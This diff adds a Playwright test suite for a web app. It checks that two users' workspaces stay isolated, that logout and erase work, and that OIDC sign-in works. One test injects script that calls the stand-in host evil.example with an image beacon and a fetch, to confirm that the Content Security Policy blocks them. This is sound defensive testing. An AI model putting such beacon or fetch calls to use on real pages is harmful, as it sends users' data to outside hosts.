@@ -1,0 +1,273 @@
+"""Two people on one server, each in their own browser: neither ever gets anything of the other's."""
+
+import re
+import subprocess
+import sys
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+from urllib.request import urlopen
+
+import pytest
+from playwright.sync_api import Browser, BrowserContext, WebSocket, expect
+
+from netroi_core.access.guests import Guests
+from netroi_core.access.register import Folder, Register
+from netroi_core.storage import Principal
+from netroi_core.storage.file import FileStore
+from netroi_core.web.gate import COOKIE
+from tests.browser.conftest import WIDE, Server, Visitor, free_port
+from tests.careers import HOSTILE, written
+from tests.pages.test_hostile import hostile
+
+pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]
+
+PATHS = ("/", "/overview", "/trends", "/plan", "/people", "/network", "/quiz", "/journal", "/imports", "/settings",
+         "/privacy")  # fmt: skip
+
+
+class Person(Visitor):
+    """A visitor with a browser of their own, which keeps all that it ever received."""
+
+    def __init__(self, context: BrowserContext, server: Server) -> None:
+        self.context, self.server = context, server
+        self.received: list[bytes] = []
+        self.errors: list[str] = []
+        page = context.new_page()
+        page.on("websocket", self._tap)
+        page.on("console", lambda said: self.errors.append(said.text) if "Content Security" in said.text else None)
+        super().__init__(page, server.url)
+
+    def _tap(self, socket: WebSocket) -> None:
+        socket.on("framereceived", lambda frame: self.received.append(frame if isinstance(frame, bytes) else b""))
+
+    @property
+    def cookie(self) -> str:
+        """What the browser is known by."""
+        return next(str(each.get("value")) for each in self.context.cookies() if each.get("name") == COOKIE)
+
+    @property
+    def principal(self) -> Principal:
+        """Whose workspace the cookie opens."""
+        visitor = Guests(Register(Folder(self.server.data / "access"))).visitor(self.cookie)
+        assert visitor is not None
+        return Principal("guest", visitor.name)
+
+    def has_received(self, word: str) -> bool:
+        """Whether anything that came had this word."""
+        return any(word.encode() in frame for frame in self.received)
+
+    def taken(self, button: str) -> tuple[str, bytes]:
+        """A file taken away: where it was fetched, and what is in it."""
+        with self.page.expect_download() as download:
+            self.page.get_by_test_id("stDownloadButton").get_by_role("button", name=button).first.click()
+        return download.value.url, Path(download.value.path()).read_bytes()
+
+
+@pytest.fixture
+def somebody(chromium: Browser) -> Iterator[Callable[[Server], Person]]:
+    """A function that gives another person a browser."""
+    contexts: list[BrowserContext] = []
+
+    def person(server: Server) -> Person:
+        contexts.append(chromium.new_context(viewport=WIDE, accept_downloads=True))
+        return Person(contexts[-1], server)
+
+    yield person
+    for context in contexts:
+        context.close()
+
+
+@pytest.fixture
+def hosted(tmp_path: Path) -> Iterator[Server]:
+    running = Server(tmp_path / "workspaces", mode="guests")
+    yield running
+    running.kill()
+
+
+def canaries(of: str) -> tuple[dict[str, Any], list[str]]:
+    """A workspace in which each text that a person can write is a word that stands nowhere else; and these words."""
+    words: list[str] = []
+
+    def told(value: Any) -> Any:
+        if isinstance(value, dict):
+            return {key: told(each) for key, each in value.items()}
+        if isinstance(value, list):
+            return [told(each) for each in value]
+        if value != HOSTILE:
+            return value
+        words.append(f"Canary{of}{len(words)}x")
+        return words[-1]
+
+    return told(hostile()), words
+
+
+def test_neither_of_two_guests_ever_receives_a_word_of_the_others(
+    hosted: Server, somebody: Callable[[Server], Person]
+) -> None:
+    """Every page, its folded parts, and a file of every kind that it offers, with a word of its own in every field."""
+    store = FileStore(hosted.data)
+    people = {"Ann": somebody(hosted), "Bo": somebody(hosted)}
+    files: dict[str, dict[str, bytes]] = {name: {} for name in people}
+    words = {}
+    for name, person in people.items():
+        person.open("/")
+        raw, words[name] = canaries(name)
+        store.change(person.principal, lambda _, raw=raw: raw)
+    for path in PATHS:
+        for name, person in people.items():
+            person.open(path)
+            for folded in person.page.locator("[data-testid=stExpander] summary").all():
+                person.act(folded.click)
+            for kind in dict.fromkeys(person.page.get_by_test_id("stDownloadButton").all_inner_texts()):
+                url, content = person.taken(kind.split("\n")[-1])
+                files[name][url] = content
+    for name, other in (("Ann", "Bo"), ("Bo", "Ann")):
+        person = people[name]
+        assert not person.has_received(f"Canary{other}")
+        assert not [url for url, content in files[name].items() if f"Canary{other}".encode() in content]
+        shown = [word for word in words[name] if person.has_received(word)]
+        assert len(shown) > len(words[name]) * 0.7, "the page of its owner does show it"
+        backup = next(content for content in files[name].values() if b"netroi-workspace" in content)
+        assert not [word for word in words[name] if word.encode() not in backup]
+        for url in files[other]:
+            assert person.page.request.get(url).status == 404
+            assert people[other].page.request.get(url).status == 200
+        assert person.errors == []
+
+
+def test_a_page_reaches_no_other_site_and_runs_no_script_but_ours(
+    hosted: Server, somebody: Callable[[Server], Person]
+) -> None:
+    ann = somebody(hosted)
+    asked: list[str] = []
+    ann.page.on("request", lambda request: asked.append(request.url))
+    ann.open("/")
+    assert not [url for url in asked if not url.startswith((hosted.url, "data:", "blob:"))]
+    ann.page.evaluate(
+        """() => {
+            new Image().src = 'https://evil.example/beacon';
+            fetch('https://evil.example/send').catch(() => 0);
+            const script = document.createElement('script');
+            script.textContent = 'window.wasRun = true';
+            document.body.append(script);
+            const frame = document.createElement('iframe');
+            frame.srcdoc = '<script>parent.wasRun = true</script>';
+            document.body.append(frame);
+        }"""
+    )
+    ann.settle()
+    assert ann.page.evaluate("() => window.wasRun") is None
+    refused = "".join(ann.errors)
+    assert [kind for kind in ("img-src", "connect-src", "script-src") if not re.search(f"[\"']{kind} ", refused)] == []
+
+
+def test_a_guest_comes_back_by_the_key_is_logged_out_elsewhere_and_deletes_all(
+    hosted: Server, somebody: Callable[[Server], Person]
+) -> None:
+    """One workspace in two browsers: by its key, until the first one logs the other out, and then is gone."""
+    store, ann, phone = FileStore(hosted.data), somebody(hosted), somebody(hosted)
+    ann.open("/people")
+    assert not list(hosted.data.glob("*.json")), "nothing is stored before the first save"
+    ann.fill("Name", "Canary Ann")
+    ann.tap("Add")
+    key = ann.page.get_by_test_id("stCode").inner_text().strip()
+    whose = ann.principal
+    phone.open("/privacy")
+    phone.act(phone.page.get_by_text("Open a workspace by its recovery key").click)
+    phone.page.get_by_label("Recovery key", exact=True).fill(key.lower().replace("-", " "))
+    with phone.page.expect_navigation(url=f"{hosted.url}/"):
+        phone.page.get_by_role("button", name="Open it").click()
+    assert phone.principal == whose
+    phone.open("/people")
+    expect(phone.page.get_by_role("heading", name="1 person")).to_be_visible()
+    ann.open("/privacy")
+    with ann.page.expect_navigation(url=f"{hosted.url}/"):
+        ann.page.get_by_role("button", name="Log out everywhere").click()
+    phone.fill("Name", "Too late")
+    phone.tap("Add")
+    expect(phone.page.get_by_text("You were logged out here.").first).to_be_visible()
+    phone.open("/people")
+    assert phone.principal != whose
+    expect(phone.page.get_by_role("heading", name="1 person")).to_have_count(0)
+    saved = store.read(whose)
+    assert saved is not None
+    assert [person["name"] for person in saved.document["contacts"]] == ["Canary Ann"]
+    ann.open("/settings")
+    ann.act(ann.page.get_by_text("I have a backup, or I don't need one.").click)
+    with ann.page.expect_navigation(url=f"{hosted.url}/"):
+        ann.page.get_by_role("button", name="Erase everything").click()
+    assert ann.principal != whose
+    assert not list(hosted.data.glob("*.json"))
+    assert not [file for file in hosted.data.rglob("*") if file.is_file() and b"Canary" in file.read_bytes()]
+
+
+@pytest.fixture
+def provider() -> Iterator[str]:
+    """The address of a provider to sign in with, a process of its own."""
+    port = free_port()
+    command = [sys.executable, "-W", "ignore", "-m", "oidc_provider_mock", "--port", str(port)]
+    with subprocess.Popen(command, stderr=subprocess.PIPE, text=True) as process:
+        assert process.stderr is not None
+        assert any("running on" in line for line in process.stderr), "the provider did not start"
+        yield f"http://localhost:{port}"
+        process.kill()
+
+
+@pytest.fixture
+def with_accounts(tmp_path: Path, provider: str) -> Iterator[Server]:
+    running = Server(
+        tmp_path / "workspaces",
+        mode="accounts",
+        NETROI_OIDC_URL=f"{provider}/.well-known/openid-configuration",
+        NETROI_OIDC_CLIENT_ID="netroi",
+        NETROI_OIDC_CLIENT_SECRET="secret",
+    )
+    with urlopen(f"{provider}/.well-known/openid-configuration") as answer:
+        assert answer.status == 200
+    yield running
+    running.kill()
+
+
+def sign_in(person: Person, name: str) -> None:
+    """By way of the provider, and back."""
+    person.open("/privacy")
+    person.page.get_by_role("button", name="Sign in", exact=True).click()
+    person.page.locator("input[name=sub]").fill(name)
+    person.page.get_by_role("button", name="Authorize").click()
+    person.page.wait_for_url(f"{person.server.url}/")
+    person.page.locator("h1").first.wait_for()
+    person.settle()
+
+
+def test_who_signs_in_takes_the_workspace_along_finds_it_elsewhere_and_logs_out_everywhere(
+    with_accounts: Server, provider: str, somebody: Callable[[Server], Person]
+) -> None:
+    store = FileStore(with_accounts.data)
+    ann, phone, bo = (somebody(with_accounts) for _ in range(3))
+    ann.open("/")
+    as_guest = ann.principal
+    store.change(as_guest, lambda _: written(contacts=[{"name": "Canary Ann"}]))
+    sign_in(ann, "ann@example.com")
+    expect(ann.page.get_by_text("Your workspace came along into your account.").first).to_be_visible()
+    assert store.read(as_guest) is None
+    sign_in(phone, "ann@example.com")
+    phone.open("/people")
+    expect(phone.page.get_by_role("heading", name="1 person")).to_be_visible()
+    sign_in(bo, "bo@example.com")
+    bo.open("/people")
+    assert not bo.has_received("Canary")
+    ann.open("/privacy")
+    expect(ann.page.get_by_text("As ann")).to_be_visible()
+    ann.page.get_by_role("button", name="Log out everywhere").click()
+    ann.page.wait_for_url(f"{provider}/oauth2/end_session*")
+    ann.page.get_by_role("button").first.click()
+    expect(ann.page.get_by_role("heading", name="What does your networking return?")).to_be_visible()
+    phone.received.clear()
+    phone.fill("Name", "Too late")
+    phone.tap("Add")
+    expect(phone.page.get_by_text("You were logged out here.").first).to_be_visible()
+    phone.page.goto(f"{with_accounts.url}/people")
+    expect(phone.page.get_by_text("You were logged out here.").first).to_be_visible()
+    assert not phone.has_received("Canary")
+    assert not bo.has_received("Canary")
